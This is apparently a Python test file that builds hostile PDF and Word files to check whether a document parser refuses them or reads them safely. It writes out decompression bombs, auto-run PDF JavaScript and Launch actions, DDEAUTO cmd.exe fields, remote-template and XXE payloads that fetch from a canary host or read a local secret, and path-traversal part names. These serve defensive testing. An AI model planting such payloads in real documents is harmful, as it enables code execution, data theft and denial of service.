"""Hostile PDFs and .docx files."""

# ruff: noqa: E501 - an input is easier to read as it is sent

from __future__ import annotations

import zlib

from tests.hostile.ground import Ground
from tests.hostile.table import READ, REFUSED, Table
from tests.ingest.test_docx import LAUGHS, body, made, with_part
from tests.ingest.test_pdf import PAGE, locked, pdf

pdfs, words = Table("PDFs"), Table("Word files")


def portable(tries: str, data: bytes, *, ends: str) -> None:
    pdfs.file(tries, "a.pdf", data, ends=ends)


def with_object(data: bytes, old: bytes, new: bytes) -> bytes:
    """The PDF with some of its bytes put in place of others; its table of places is then wrong, as it may be."""
    assert old in data
    return data.replace(old, new, 1)


GOOD = pdf(PAGE)
portable("nothing but the first word", b"%PDF-1.4", ends=REFUSED)
portable(
    "a stream that is a bomb",
    pdf(stream=zlib.compress(bytes(100_000_000), 1), filter=b"/Filter /FlateDecode"),
    ends=REFUSED,
)
portable(
    "a stream packed fifty times",
    pdf(stream=b"x", filter=b"/Filter [" + b"/FlateDecode " * 50 + b"]"),
    ends=REFUSED,
)
portable(
    "pages that are each other's parents", with_object(GOOD, b"/Kids [5 0 R]", b"/Kids [2 0 R]"), ends=REFUSED
)
portable(
    "a page that is its own content", with_object(GOOD, b"/Contents 6 0 R", b"/Contents 5 0 R"), ends=REFUSED
)
portable("a number of pages that is a lie", with_object(GOOD, b"/Count 1", b"/Count 999999999"), ends=READ)
portable("a length that is a lie", with_object(GOOD, b"/Length ", b"/Length 99"), ends=READ)
portable(
    "a table of objects that leads to itself",
    GOOD.replace(b"trailer <<", b"trailer << /Prev 9 /XRefStm 9"),
    ends=READ,
)
portable(
    "brackets a hundred thousand deep",
    with_object(GOOD, b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 100_000 + b"]" * 100_000),
    ends=REFUSED,
)
portable("dictionaries fifty thousand deep", b"%PDF-1.4\n" + b"<<" * 50_000, ends=REFUSED)
portable(
    "a script that is to run when it is opened",
    with_object(
        GOOD, b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    ),
    ends=READ,
)
portable(
    "a program that is to be started",
    with_object(
        GOOD, b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (/bin/touch) /P (owned) >>"
    ),
    ends=READ,
)
portable(
    "text of twenty thousand empty commands", pdf(stream=b"BT\n" + b"() Tj " * 20_000 + b"ET"), ends=REFUSED
)
portable("a file that needs a password", locked("secret"), ends=REFUSED)
portable("a file that was cut short", GOOD[:500], ends=REFUSED)
portable("no text, a picture only", pdf([]), ends=REFUSED)
portable(
    "a title with terminal codes and markup",
    pdf(PAGE, info=b"/Title (\x1b[2J<script>Rain at last)"),
    ends=READ,
)
portable(
    "dates and names that are none",
    pdf(PAGE, info=b"/CreationDate (D:99999999999999) /Author (" + b"A" * 100_000 + b")"),
    ends=READ,
)


def pdf_that_calls(ground: Ground) -> list[str]:
    at = ground.canary.address.encode()
    more = (
        b"/Type /Catalog /OpenAction << /S /URI /URI (%s/1) >> /AA << /O << /S /SubmitForm /F (%s/2) >> >>"
        % (at, at)
    )
    data = with_object(GOOD, b"/Type /Catalog", more)
    data = with_object(data, b"/Length ", b"/F << /FS /URL /F (%s/3) >> /Length " % at)
    return [ground.put("a.pdf", data)]


pdfs.add("addresses that are to be fetched, and words that lie elsewhere", pdf_that_calls, ends=READ)


def pdf_that_opens(ground: Ground) -> list[str]:
    data = with_object(GOOD, b"/Length ", b"/F (%s) /FFilter /None /Length " % bytes(ground.secret))
    return [ground.put("a.pdf", data)]


pdfs.add("words that are in a file outside", pdf_that_opens, ends=READ)


def word(tries: str, data: bytes, *, ends: str) -> None:
    words.file(tries, "a.docx", data, ends=ends)


P = "<w:p><w:r><w:t>Lee said: it rained</w:t></w:r></w:p>"
word("entities that double", body("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", LAUGHS), ends=REFUSED)
word(
    "entities that double, in another part",
    with_part(made("Lee said: no"), "word/styles.xml", f"{LAUGHS}<w>&i;</w>".encode()),
    ends=REFUSED,
)
word(
    "entities that double, in UTF-16",
    with_part(made("Lee said: no"), "word/document.xml", f"{LAUGHS}<w>&i;</w>".encode("utf-16")),
    ends=REFUSED,
)
word("elements ten thousand deep", body("<w:p>" * 10_000 + "</w:p>" * 10_000), ends=REFUSED)
word(
    "a table of tables of tables",
    body("<w:tbl><w:tr><w:tc>" * 60 + P + "</w:tc></w:tr></w:tbl>" * 60),
    ends=READ,
)
word("ten thousand paragraphs", body(P + P.replace("said:", "spoke") * 10_000), ends=READ)
word(
    "a part that is a bomb",
    with_part(made("Lee said: no"), "word/media/a.png", bytes(20_000_000)),
    ends=REFUSED,
)
word(
    "a part of XML that is a bomb",
    with_part(made("Lee said: no"), "word/document.xml", b"<w>" + b" " * 9_000_000 + b"</w>"),
    ends=REFUSED,
)
word("no document in it", with_part(made("Lee said: no"), "word/document.xml", b""), ends=REFUSED)
word(
    "parts whose names lead out",
    with_part(made("Lee said: no"), "../../outside/owned.xml", b"<a/>"),
    ends=READ,
)
word(
    "relations that lead to themselves",
    with_part(
        made("Lee said: no"),
        "word/_rels/document.xml.rels",
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="b" Target="document.xml"/><Relationship Id="c" Type="b" Target="/word/document.xml"/></Relationships>',
    ),
    ends=READ,
)
word(
    "a list of kinds that lies",
    with_part(made("Lee said: no"), "[Content_Types].xml", b"<Types/>"),
    ends=REFUSED,
)
word(
    "macros and objects",
    with_part(
        with_part(made("Lee said: no"), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 99),
        "word/embeddings/a.exe",
        b"MZ",
    ),
    ends=READ,
)
word("an encrypted file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), ends=REFUSED)
word("a zip with nothing of a .docx", b"PK\x05\x06" + bytes(18), ends=REFUSED)
word(
    "an author with terminal codes",
    with_part(
        made("Lee said: no"),
        "docProps/core.xml",
        b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>&lt;script&gt; '
        + b"A" * 100_000
        + b"</dc:creator></cp:coreProperties>",
    ),
    ends=READ,
)


def calling(tries: str, xml: str, *, rels: str = "", before: str = "", ends: str) -> None:
    """A .docx that wants somebody asked: {at} is the canary, {file} a file outside."""

    def plant(ground: Ground) -> list[str]:
        def filled(part: str) -> str:
            return part.replace("{at}", ground.canary.address).replace("{file}", ground.secret.as_uri())

        data = body(filled(xml), filled(before))
        if rels:
            head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            data = with_part(
                data, "word/_rels/settings.xml.rels", f"{head}{filled(rels)}</Relationships>".encode()
            )
            data = with_part(
                data, "word/_rels/document.xml.rels", f"{head}{filled(rels)}</Relationships>".encode()
            )
        return [ground.put("a.docx", data)]

    words.add(tries, plant, ends=ends)


TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
calling(
    "a template from elsewhere",
    P,
    rels=f'<Relationship Id="a" Type="{TYPE}/attachedTemplate" Target="{{at}}/t.dotm" TargetMode="External"/>',
    ends=READ,
)
calling(
    "pictures, frames and objects from elsewhere",
    P,
    rels="".join(
        f'<Relationship Id="r{kind}" Type="{TYPE}/{kind}" Target="{{at}}/{kind}" TargetMode="External"/>'
        for kind in ("image", "frame", "oleObject", "hyperlink", "subDocument", "aFChunk")
    ),
    ends=READ,
)
calling(
    "a field that starts a program or fetches",
    '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch owned"</w:instrText></w:r><w:r><w:instrText>INCLUDEPICTURE "{at}/x"</w:instrText></w:r></w:p>'
    + P,
    ends=READ,
)
calling(
    "an entity that is a file",
    "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
    before='<!DOCTYPE w [<!ENTITY x SYSTEM "{file}">]>',
    ends=REFUSED,
)
calling(
    "an entity that is fetched",
    "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
    before='<!DOCTYPE w [<!ENTITY % p SYSTEM "{at}/p"> %p; <!ENTITY x SYSTEM "{at}/x">]>',
    ends=REFUSED,
)
calling("a document type from elsewhere", P, before='<!DOCTYPE w SYSTEM "{at}/w.dtd">', ends=REFUSED)
